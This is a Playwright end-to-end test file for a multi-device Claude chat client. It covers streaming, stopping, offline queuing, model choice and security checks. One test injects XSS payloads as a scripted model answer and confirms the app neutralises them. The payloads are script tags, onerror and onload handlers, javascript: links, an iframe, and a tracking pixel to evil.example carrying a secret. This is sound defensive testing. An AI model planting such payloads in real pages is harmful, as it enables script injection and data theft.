import fs from 'node:fs';
import path from 'node:path';
import type { Page } from '@playwright/test';
import {
	createProject,
	device,
	expect,
	newSession,
	openSession,
	signIn,
	syncStatus,
	test
} from './fixtures.js';

const log = (page: Page) => page.getByRole('log', { name: 'Conversation' });
const answers = (page: Page) => log(page).getByRole('article', { name: 'Claude' });

async function ask(page: Page, text: string): Promise<void> {
	const box = page.getByRole('textbox', { name: 'Message' });
	await box.fill(text);
	await box.press('Enter');
	await expect(log(page).getByRole('article', { name: 'You' }).last()).toContainText(text);
}

test.beforeEach(({ tether }) => tether.fake.reset());

test('[RN1] an answer asked on A streams live on B, and is whole after A closes mid-run', async ({
	browser,
	apiKey,
	tether
}) => {
	const a = await device(browser, apiKey);
	await createProject(a, 'Streams');
	await a.getByRole('textbox', { name: 'Project information' }).fill('We write tests first.');
	await newSession(a);
	const b = await device(browser, apiKey);
	await b.goto(a.url());
	await expect(b.getByRole('textbox', { name: 'Message' })).toBeVisible();

	const words = Array.from({ length: 30 }, (_, i) => `word${i} `);
	tether.fake.script({
		blocks: [{ type: 'text', text: words.join(''), deltas: words }],
		usage: { inputTokens: 21, outputTokens: 30 },
		delayMs: 150
	});
	await ask(a, 'Stream me an answer 🌊');
	// B watches it grow: some words first, while it is still writing, then all of them.
	await expect(answers(b).last()).toContainText('word3', { timeout: 10_000 });
	await expect(answers(b).last()).toHaveAttribute('aria-busy', 'true');
	await expect(answers(b).last()).not.toContainText('word29');
	await a.context().close();
	await expect(answers(b).last()).toContainText('word29', { timeout: 15_000 });
	await expect(answers(b).last()).toHaveAttribute('aria-busy', 'false');
	await expect(answers(b).last()).toContainText('21 in · 30 out');

	// One request, with the project information as the system prompt and this history only.
	const sent = tether.fake.requestsTo('/v1/messages');
	expect(sent).toHaveLength(1);
	expect(sent[0]?.body).toMatchObject({
		system: 'We write tests first.',
		messages: [{ role: 'user', content: [{ type: 'text', text: 'Stream me an answer 🌊' }] }]
	});

	// A reopened device finds the whole answer.
	const again = await device(browser, apiKey);
	await openSession(again, 'Streams', 'Stream me an answer 🌊');
	await expect(answers(again).last()).toContainText('word29');
	await expect(syncStatus(again)).toHaveText('Synced');
});

test('[RN7] Stop on B ends a run started on A and keeps the partial answer (R20)', async ({
	browser,
	apiKey,
	tether
}) => {
	const a = await device(browser, apiKey);
	await createProject(a, 'Stopping');
	await newSession(a);
	const b = await device(browser, apiKey);
	await b.goto(a.url());
	await expect(b.getByRole('textbox', { name: 'Message' })).toBeVisible();
	const pieces = Array.from({ length: 200 }, (_, i) => `piece${i} `);
	tether.fake.script({
		blocks: [{ type: 'text', text: pieces.join(''), deltas: pieces }],
		delayMs: 100
	});
	await ask(a, 'Talk for a long time');
	await expect(answers(b).last()).toContainText('piece2', { timeout: 10_000 });
	await b.getByRole('button', { name: 'Stop' }).click();
	await expect.poll(() => tether.fake.openResponses(), { timeout: 5000 }).toBe(0);
	for (const page of [a, b]) {
		await expect(answers(page).last()).toContainText('Stopped.');
		await expect(answers(page).last()).toContainText('piece2');
		await expect(answers(page).last()).not.toContainText('piece199');
		await expect(page.getByRole('button', { name: 'Stop' })).toHaveCount(0);
	}
	expect(tether.fake.requestsTo('/v1/messages')[0]?.outcome).toBe('client-closed');
});

test('[RN5] a message written offline waits, then is answered exactly once when both devices ask (R22)', async ({
	browser,
	apiKey,
	tether
}) => {
	const a = await device(browser, apiKey);
	await createProject(a, 'Offline asks');
	await newSession(a);
	await ask(a, 'First, online');
	await expect(answers(a).last()).toContainText('Echo: First, online');
	const b = await device(browser, apiKey);
	await b.goto(a.url());
	await expect(answers(b).last()).toContainText('Echo: First, online');

	await a.context().setOffline(true);
	await expect(syncStatus(a)).toHaveText('Offline');
	await ask(a, 'Written on a plane ✈️');
	const waiting = log(a).getByRole('article', { name: 'You' }).last();
	await expect(waiting).toContainText('Waiting to be sent for an answer');
	await a.context().setOffline(false);
	await expect(answers(b).last()).toContainText('Echo: Written on a plane ✈️', { timeout: 15_000 });
	await expect(answers(a).last()).toContainText('Echo: Written on a plane ✈️');
	await expect(waiting).not.toContainText('Waiting');
	await expect(syncStatus(a)).toHaveText('Synced');
	await expect(syncStatus(b)).toHaveText('Synced');
	// Both devices saw the waiting message online; the server ran it once.
	expect(tether.fake.requestsTo('/v1/messages')).toHaveLength(2);
	await expect(answers(a)).toHaveCount(2);
});

test('[RN6] a message sent while an answer streams is queued, shown as queued, and answered after it', async ({
	page,
	apiKey,
	tether
}) => {
	await signIn(page, apiKey);
	await createProject(page, 'Queue');
	await newSession(page);
	const words = Array.from({ length: 20 }, (_, i) => `w${i} `);
	tether.fake.script({
		blocks: [{ type: 'text', text: words.join(''), deltas: words }],
		delayMs: 150
	});
	await ask(page, 'First question');
	await expect(answers(page).last()).toContainText('w1', { timeout: 10_000 });
	await ask(page, 'Second question');
	const second = log(page).getByRole('article', { name: 'You' }).last();
	await expect(second).toContainText('Queued');
	await expect(answers(page)).toHaveCount(2, { timeout: 15_000 });
	await expect(answers(page).last()).toContainText('Echo: Second question');
	await expect(second).not.toContainText('Queued');
	// The conversation reads in order: each answer after its question.
	const order = await log(page).getByRole('article').allInnerTexts();
	const firstAnswer = order.findIndex((t) => t.includes('w19'));
	expect(firstAnswer).toBeGreaterThan(order.findIndex((t) => t.includes('First question')));
	expect(order.findIndex((t) => t.includes('Second question'))).toBeGreaterThan(firstAnswer);
	const sent = tether.fake.requestsTo('/v1/messages')[1]?.body as { messages: unknown[] };
	expect(sent.messages).toHaveLength(3);
});

test('[RN12] the Model combobox lists the models the key may use; the choice is the session’s and runs use it', async ({
	browser,
	apiKey,
	tether
}) => {
	const a = await device(browser, apiKey);
	await createProject(a, 'Models');
	await newSession(a);
	const picker = a.getByRole('combobox', { name: 'Model' });
	await expect(picker).toHaveValue('claude-sonnet-4-6');
	const options = await picker.getByRole('option').allInnerTexts();
	expect(options).toContain('Claude Sonnet 4.6 (default)');
	expect(options).toContain('Claude Sonnet 4 (deprecated)');
	expect(options.some((o) => /retired/i.test(o))).toBe(false);
	const retired = tether.fake.models.filter((m) => m.lifecycle === 'retired');
	expect(retired.length).toBeGreaterThan(0);
	for (const model of retired) expect(options).not.toContain(model.display_name);

	await picker.selectOption('claude-haiku-4-5');
	const b = await device(browser, apiKey);
	await b.goto(a.url());
	await expect(b.getByRole('combobox', { name: 'Model' })).toHaveValue('claude-haiku-4-5');
	await ask(a, 'Which model?');
	await expect(answers(a).last()).toContainText('Echo: Which model?');
	expect(tether.fake.requestsTo('/v1/messages').at(-1)?.body).toMatchObject({
		model: 'claude-haiku-4-5',
		max_tokens: 64_000
	});
	await expect(answers(a).last()).toContainText('claude-haiku-4-5');
});

test('[RN13] [S9] [S10] a model answer full of XSS vectors, streamed through a run, executes nothing and requests nothing remote', async ({
	page,
	apiKey,
	tether,
	baseURL
}) => {
	const remote: string[] = [];
	page.on('request', (request) => {
		if (!request.url().startsWith(baseURL ?? '')) remote.push(request.url());
	});
	await signIn(page, apiKey);
	await createProject(page, 'Hostile');
	await newSession(page);
	const hostile = [
		'Before <script>window.__xss = 1</script>',
		'<img src="http://evil.example/x.png" onerror="window.__xss = 1">',
		'<svg onload="window.__xss = 1"><script>window.__xss = 1</script></svg>',
		'[click](javascript:window.__xss=1) ![pixel](http://evil.example/track.png?c=secret)',
		'<a href="javascript:window.__xss=1">raw</a> <iframe src="http://evil.example/"></iframe> After'
	].join('\n\n');
	tether.fake.script({ blocks: [{ type: 'text', text: hostile }], chunkBytes: 7 });
	await ask(page, 'Be hostile');
	await expect(answers(page).last()).toContainText('After', { timeout: 10_000 });
	await expect(answers(page).last()).toHaveAttribute('aria-busy', 'false');
	expect(
		await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)
	).toBeUndefined();
	await expect(answers(page).last().locator('img, script, svg, iframe')).toHaveCount(0);
	await expect(answers(page).last().locator('a[href^="javascript"]')).toHaveCount(0);
	expect(remote).toEqual([]);
});

test('[RN14] [S1] a canary key used for runs and model lists appears in no file, log or upstream record', async ({
	page,
	tether
}) => {
	const canary = `sk-ant-test-RUNCANARY-${Date.now().toString(36)}`;
	await signIn(page, canary);
	await createProject(page, 'Canary');
	await newSession(page);
	await expect(page.getByRole('combobox', { name: 'Model' })).toHaveValue('claude-sonnet-4-6');
	await ask(page, 'Does the key leak?');
	await expect(answers(page).last()).toContainText('Echo: Does the key leak?');
	tether.fake.failNext(401, { endpoint: 'messages' });
	await ask(page, 'And on failure?');
	await expect(answers(page).last()).toContainText('401');
	await expect(syncStatus(page)).toHaveText('Synced');
	const leaks: string[] = [];
	const visit = (dir: string) => {
		for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
			const full = path.join(dir, entry.name);
			if (entry.isDirectory()) visit(full);
			else if (fs.readFileSync(full).includes(canary)) leaks.push(full);
		}
	};
	visit(tether.dataDir);
	expect(leaks).toEqual([]);
	expect(tether.output()).not.toContain(canary);
	expect(JSON.stringify(tether.fake.requests)).not.toContain(canary);
	// The key did reach the upstream, as the API wants it, on every run.
	expect(tether.fake.requestsTo('/v1/messages').every((r) => r.auth === 'bearer')).toBe(true);
});
